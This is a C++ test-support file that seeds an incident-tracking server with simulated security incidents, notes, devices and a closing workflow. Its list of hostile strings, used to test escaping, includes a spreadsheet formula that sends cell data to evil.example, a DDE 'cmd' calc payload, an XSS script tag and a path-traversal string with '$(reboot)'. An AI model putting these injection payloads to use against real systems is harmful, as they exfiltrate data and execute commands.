#include "tests/support/exchange_world.h"

#include <iostream>
#include <random>
#include <utility>

#include "absl/strings/str_cat.h"
#include "client-lib/chat/time_format.h"

namespace belfry::testing {
namespace {

using Pairs = std::vector<std::pair<std::string, std::string>>;

struct Kind {
  std::string category;
  std::string sub_value;
};

// Every category alone, and with each of its details.
std::vector<Kind> Kinds(const policy::v1::Policy& policy) {
  std::vector<Kind> kinds;
  for (const auto& category : policy.categories()) {
    kinds.push_back({category.code(), ""});
    for (const auto& sub_value : category.sub_values()) {
      kinds.push_back({category.code(), sub_value.code()});
    }
  }
  return kinds;
}

class Player {
 public:
  Player(TestServer& server, int count)
      : server_(server), count_(count), policy_(server.As("admin").GetPolicy({})->policy()) {}

  std::vector<std::string> Play() {
    const std::vector<Kind> kinds = Kinds(policy_);
    for (int i = 0; i < count_; ++i) {
      const std::string name = Report(i, kinds);
      if (name.empty()) continue;
      names_.push_back(name);
      Work(i, name);
      // Duties of the first ones fall due and are late; after that time passes slowly, because every
      // hour costs all incidents that are open.
      if (i % 10 == 9) server_.AdvanceTo(absl::Hours(30) + absl::Minutes(5) * (i / 10));
    }
    return names_;
  }

 private:
  // Nothing but a title at first: these can be led to the end.
  static bool IsPlain(int i) { return i % 40 == 16; }
  int Draw(int bound) { return static_cast<int>(random_() % static_cast<unsigned>(bound)); }
  const std::string& Hostile(int i) const {
    return HostileTexts()[static_cast<size_t>(i) % HostileTexts().size()];
  }

  std::string Report(int i, const std::vector<Kind>& kinds) {
    static const char* const kReporters[][2] = {{"dop.clerk", "entities/dop"},
                                                {"bor.contact", "entities/bor"},
                                                {"siem.dop", "entities/dop"},
                                                {"dor.contact", "entities/dor"}};
    const auto& [who, entity] = kReporters[i % 4];
    v1::CreateIncidentRequest request;
    request.set_title(absl::StrCat("Incident ", i, ": ", Hostile(i)));
    if (i % 3 != 0) request.set_summary(absl::StrCat(Hostile(i + 1), "\n", Hostile(i + 2)));
    request.set_entity(entity);
    *request.mutable_detect_time() =
        chat::ToTimestamp(server_.now() - absl::Minutes(IsPlain(i) ? 0 : Draw(600)));
    if (i % 11 != 10 && !IsPlain(i)) {
      const Kind& kind = kinds[static_cast<size_t>(i) % kinds.size()];
      auto* category = request.add_categories();
      category->set_category(kind.category);
      if (!kind.sub_value.empty()) category->add_sub_values(kind.sub_value);
      const Kind& other = kinds[static_cast<size_t>(Draw(static_cast<int>(kinds.size())))];
      if (i % 5 == 0 && other.category != kind.category) {
        auto* second = request.add_categories();
        second->set_category(other.category);
        if (!other.sub_value.empty()) second->add_sub_values(other.sub_value);
      }
    }
    if (i % 2 == 1 && !IsPlain(i)) {
      request.set_severity(policy_.severities(i / 2 % policy_.severities_size()).code());
    }
    bool restricted = i % 9 == 4;
    for (const auto& assigned : request.categories()) {
      for (const auto& category : policy_.categories()) {
        restricted |= category.code() == assigned.category() && category.restricted();
      }
    }
    request.set_restricted(restricted);
    // Named readers only: whoever exports is one of them.
    if (restricted) request.add_readers("people/csirt.handler");
    request.set_drill(i % 7 == 3);
    if (i % 6 == 2 && !IsPlain(i)) {
      auto* part = request.add_other_entities();
      part->set_entity(i % 4 == 1 ? "entities/dor" : "entities/bor");
      part->set_relation(i % 12 == 2 ? v1::IncidentEntity::RELATION_POTENTIAL
                                     : v1::IncidentEntity::RELATION_AFFECTED);
    }
    if (i % 13 == 5) request.add_subjects("people/dor.iso");
    for (const auto& fact : policy_.facts()) {
      if (IsPlain(i)) break;
      if (fact.values().empty() || fact.multiple() || fact.per_entity() || Draw(3) != 0) continue;
      if (fact.author_roles_size() > 0 || fact.value_authors_size() > 0) continue;
      const std::string& value = fact.values(Draw(fact.values_size()));
      auto* answer = request.add_facts();
      answer->set_name(fact.name());
      answer->set_value(value);
      answer->set_reason(Hostile(i + 3));
    }
    if (i % 8 == 6) {
      for (const auto& [name, value] :
           Pairs{{"residents_affected", absl::StrCat(i * 7)}, {"pi_elements", "SSN,CARD"}}) {
        auto* answer = request.add_facts();
        answer->set_name(name);
        answer->set_value(value);
      }
    }
    const auto created = server_.As(who).CreateIncident(request);
    if (!created.ok()) {
      std::cerr << "incident " << i << ": " << created.status() << "\n";
      return "";
    }
    return created->incident().name();
  }

  // Whatever the policy refuses is simply not done.
  void Work(int i, const std::string& name) {
    const auto handler = server_.As("csirt.handler");
    for (int n = 0; n < i % 4; ++n) Note(name, Hostile(i + n));
    if (i % 10 == 1) Note(name, "The caller said: my SSN is 219-09-9999, card 4111 1111 1111 1111");
    if (i % 10 == 2) Note(name, "TLP:RED the name of the source is known to the handler only");
    v1::LinkTicketRequest ticket;
    ticket.set_name(name);
    ticket.mutable_ticket()->set_system("E2E");
    ticket.mutable_ticket()->set_number(absl::StrCat(1000 + i));
    if (i % 3 != 2 || IsPlain(i)) (void)server_.As("commonhelp").LinkTicket(ticket);
    if (i % 4 == 1) Devices(i, name);
    if (i % 6 == 3) {
      v1::RecordCostRequest cost;
      cost.set_name(name);
      cost.mutable_cost()->set_description(Hostile(i));
      cost.mutable_cost()->set_amount_cents(1234567 + i);
      (void)handler.RecordCost(cost);
      cost.mutable_cost()->set_entity("entities/dop");
      (void)server_.As("itd.duty").RecordCost(cost);
    }
    if (i % 5 == 2) Dismiss(name);
    if (i % 12 == 7 && names_.size() > 4) {
      v1::LinkIncidentRequest link;
      link.set_name(name);
      link.set_parent(names_[names_.size() - 5]);
      link.set_merge(i % 24 == 7);
      link.set_reason(Hostile(i));
      (void)handler.LinkIncident(link);
    }
    if (IsPlain(i)) (void)CloseIncident(server_, name);
    if (i % 14 == 9) {
      v1::UpdateIncidentRequest update;
      update.mutable_incident()->set_name(name);
      update.mutable_incident()->set_lead("people/csirt.handler");
      update.mutable_update_mask()->add_paths("lead");
      (void)handler.UpdateIncident(update);
    }
  }

  void Note(const std::string& name, const std::string& text) {
    v1::AddNoteRequest note;
    note.set_name(name);
    note.set_text(text);
    (void)server_.As("csirt.handler").AddNote(note);
  }

  void Devices(int i, const std::string& name) {
    v1::RecordDevicesRequest request;
    request.set_name(name);
    for (int n = 0; n <= i % 3; ++n) {
      auto* device = request.add_devices();
      device->set_device(absl::StrCat("pc-<", i, ">-", n));
      if (n > 0) device->set_subnet(absl::StrCat("10.20.", i % 200, ".0/24"));
      device->set_status(n == 0 ? v1::Device::STATUS_ISOLATED : v1::Device::STATUS_INFECTED);
      device->set_family("Family \"A\" & B");
    }
    (void)server_.As("csirt.handler").RecordDevices(request);
  }

  void Dismiss(const std::string& name) {
    v1::RecordFactsRequest facts;
    facts.set_name(name);
    for (const auto& [fact, value] : Pairs{{"verdict", "FALSE_POSITIVE"},
                                           {"attack_intrusion", "NO"},
                                           {"personal_information", "NONE"}}) {
      auto* added = facts.add_facts();
      added->set_name(fact);
      added->set_value(value);
      added->set_reason("nothing of it was so");
    }
    (void)server_.As("csirt.handler").RecordFacts(facts);
    v1::TransitionIncidentRequest dismiss;
    dismiss.set_name(name);
    dismiss.set_verb("dismiss");
    dismiss.set_reason("a test of the vendor");
    (void)server_.As("csirt.handler").TransitionIncident(dismiss);
  }

  TestServer& server_;
  const int count_;
  const policy::v1::Policy policy_;
  std::mt19937 random_{20261006};
  std::vector<std::string> names_;
};

}  // namespace

const std::vector<std::string>& HostileTexts() {
  static const auto& texts = *new std::vector<std::string>{
      "an ordinary sentence",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "quotes \" ' ` and commas, semicolons; tabs\tand\r\nline ends",
      "<script>alert(1)</script> &amp; ]]> <!-- --> <?xml?>",
      "beyond the plane \U0001F512 \U00020BB7 and e\u0301 combining",
      "+1234 -cmd|' /C calc'!A0",
      "tab\there and \u0085 next line and \u009b[31m C1",
      "@SUM(1+1)*cmd",
      "right \u202e to left \u05e9\u05dc\u05d5\u05dd and zero\u200bwidth",
      "../../etc/passwd; $(reboot) %s %n {{x}} ${y}",
      "\u2028line separators\u2029 and \ufeff marks \ufffe\uffff",
      "-1",
      "{\"type\":\"bundle\"} \\u0000 \\",
      "\uff1dfull-width formula"};
  return texts;
}

std::vector<std::string> PlayIncidents(TestServer& server, int count) {
  return Player(server, count).Play();
}

bool CloseIncident(TestServer& server, const std::string& name) {
  bool ok = true;
  const auto keep = [&](const absl::Status& status) {
    if (!status.ok()) std::cerr << name << ": " << status.message() << "\n";
    ok &= status.ok();
  };
  const auto verb = [&](const std::string& who, const std::string& verb_name) {
    v1::TransitionIncidentRequest request;
    request.set_name(name);
    request.set_verb(verb_name);
    request.set_reason("as the policy asks");
    keep(server.As(who).TransitionIncident(request).status());
  };
  const auto facts = [&](const std::string& who, const Pairs& pairs) {
    v1::RecordFactsRequest request;
    request.set_name(name);
    for (const auto& [fact, value] : pairs) {
      auto* added = request.add_facts();
      added->set_name(fact);
      added->set_value(value);
      added->set_reason("so it was found");
    }
    keep(server.As(who).RecordFacts(request).status());
  };
  const auto document = [&](const std::string& who, const std::string& type, const Pairs& fields) {
    v1::SubmitDocumentRequest request;
    request.set_name(name);
    request.set_type(type);
    for (const auto& [field, value] : fields) {
      auto* added = request.add_fields();
      added->set_name(field);
      added->set_value(value);
    }
    keep(server.As(who).SubmitDocument(request).status());
  };
  v1::AssignCategoriesRequest categories;
  categories.set_name(name);
  categories.add_categories()->set_category("CAT-14");
  keep(server.As("csirt.handler").AssignCategories(categories).status());
  facts("csirt.handler", {{"verdict", "CONFIRMED"},
                          {"attack_intrusion", "NO"},
                          {"criminal", "RULED_OUT"},
                          {"personal_information", "NONE"},
                          {"public_safety", "NO"},
                          {"third_party", "NO"},
                          {"statewide", "NO"}});
  verb("csirt.handler", "take");
  verb("csirt.handler", "declare");
  facts("dop.contact", {{"devices_contained", "ALL"},
                        {"cause", "a mail"},
                        {"weaknesses", "NONE_FOUND"},
                        {"devices_clean", "YES"},
                        {"services_restored", "YES"},
                        {"weaknesses_settled", "MITIGATED"}});
  facts("dop.iso", {{"records_reviewed", "YES"}, {"iso_sign_off", "YES"}});
  for (const char* who : {"csirt.handler", "eox.scio"}) {
    v1::AcknowledgeIncidentRequest request;
    request.set_name(name);
    keep(server.As(who).AcknowledgeIncident(request).status());
  }
  document("dop.iso", "DECISION_AUTHORITY", {{"technical", "somebody"}});
  document("dop.iso", "CISO_COORDINATOR", {{"coordinator", "the CISO"}});
  document("csirt.handler", "EVIDENCE_PLAN",
           {{"plan", "NONE_NEEDED"}, {"reason", "nothing was touched"}});
  document("dop.contact", "LOG_SOURCES", {{"sources", "mail PRESERVED"}});
  document("eox.scio", "WRITTEN_NOTICE",
           {{"to", "BOTH"},
            {"nature", "a mail"},
            {"data_kinds", "NONE_IDENTIFIED"},
            {"procedures", "established"},
            {"consulted", "the SCIO"},
            {"contact", "the contact"}});
  document("dop.contact", "FOLLOWUP",
           {{"summary", "s"}, {"impact", "i"}, {"actions", "a"}, {"next", "n"}});
  v1::SendObligationNoticeRequest notice;
  notice.set_name(name);
  notice.set_obligation("CCIO-CSO-VIA-SCIO");
  keep(server.As("eox.scio").SendObligationNotice(notice).status());
  v1::LeaseDeliveriesRequest lease;
  lease.set_holder("bot-1");
  lease.set_incarnation("1");
  lease.add_platforms("console");
  lease.set_max(100);
  for (;;) {
    const auto leased = server.As("bot").LeaseDeliveries(lease);
    if (!leased.ok() || leased->deliveries().empty()) break;
    for (const auto& delivery : leased->deliveries()) {
      v1::ReportDeliveryRequest report;
      report.set_name(delivery.name());
      report.set_holder("bot-1");
      report.set_incarnation("1");
      report.set_outcome(v1::ReportDeliveryRequest::OUTCOME_DELIVERED);
      report.mutable_message()->set_id("1");
      keep(server.As("bot").ReportDelivery(report).status());
    }
  }
  verb("csirt.handler", "resolve");
  verb("csirt.handler", "close");
  return ok;
}

}  // namespace belfry::testing
